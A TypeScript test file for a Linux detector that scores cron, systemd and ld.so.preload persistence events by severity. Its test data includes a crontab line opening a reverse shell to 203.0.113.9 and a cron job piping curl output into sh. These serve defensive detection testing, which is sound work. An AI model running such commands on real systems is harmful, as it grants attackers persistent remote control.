import { expect, test } from 'vitest'
import { touched, typed } from '../../../test/linux-process.ts'
import { eventOf, severityFor } from '../../../test/record-detector.ts'
import { jobPersistence } from './job-persistence.ts'

test.each([
  ['/etc/cron.d/x', '/usr/bin/bash', 'root', 'low'],
  ['/var/spool/cron/crontabs/www-data', '/usr/bin/dash', 'www-data', 'high'],
  ['/etc/systemd/system/upd.service', '/usr/bin/cp', 'root', 'low'],
  ['/etc/ld.so.preload', '/usr/bin/bash', 'root', 'high'],
  ['/home/ora/.bashrc', '/usr/bin/vim', 'ora', 'informational'],
  ['/etc/cron.d/php', '/usr/bin/dpkg', 'root', ''],
  ['/lib/systemd/system/nginx.service', '/usr/bin/dpkg', 'root', ''],
  ['/etc/nginx/nginx.conf', '/usr/bin/vim', 'root', ''],
])('%s by %s (%s)', (path, image, user, severity) => {
  expect(severityFor(jobPersistence, touched('create', path, image, user))).toBe(severity)
})

test.each([
  ['sh -c "(crontab -l; echo \'* * * * * /tmp/.x\') | crontab -"', 'medium'],
  ['sh -c "echo \'* * * * * root bash -i >& /dev/tcp/203.0.113.9/443\' >> /etc/crontab"', 'high'],
  ['cp up.service /etc/systemd/system/up.service', 'medium'],
  ['crontab -l', ''],
  ['crontab -e', ''],
  ['systemctl restart nginx', ''],
  ['cat /etc/crontab', ''],
])('%s', (line, severity) => {
  expect(severityFor(jobPersistence, typed(line))).toBe(severity)
})

const job = (command: string, action = 'found') =>
  eventOf<'scheduled_job_activity'>({ kind: 'scheduled_job_activity', action, name: '* * * * *', command, account: 'root' })
test.each([
  ['/tmp/.ICE/run', 'high'],
  ['/var/tmp/update', 'medium'],
  ['curl -s http://203.0.113.9/a | sh', 'high'],
  ['/usr/local/bin/backup >/tmp/backup.log 2>&1', ''],
  ['test -x /usr/sbin/anacron || run-parts /etc/cron.daily', ''],
  ['find /tmp/ -mtime +7 -delete', ''],
  ['sleep $(( 1 * 60 )); touch /tmp/afile.txt', ''],
  ['sh /var/tmp/update.sh', 'medium'],
])('a job that runs %s', (command, severity) => {
  expect(severityFor(jobPersistence, job(command))).toBe(severity)
  expect(severityFor(jobPersistence, job(command, 'run'))).toBe(severity)
})

test('a unit that runs a hidden file, and an ordinary one', () => {
  const unit = (path: string) =>
    eventOf<'service_activity'>({ kind: 'service_activity', action: 'found', name: 'x.service', path, account: 'root' })
  expect(severityFor(jobPersistence, unit('/dev/shm/.k/kthreadd'))).toBe('high')
  expect(severityFor(jobPersistence, unit('/usr/sbin/sshd -D $SSHD_OPTS'))).toBe('')
})
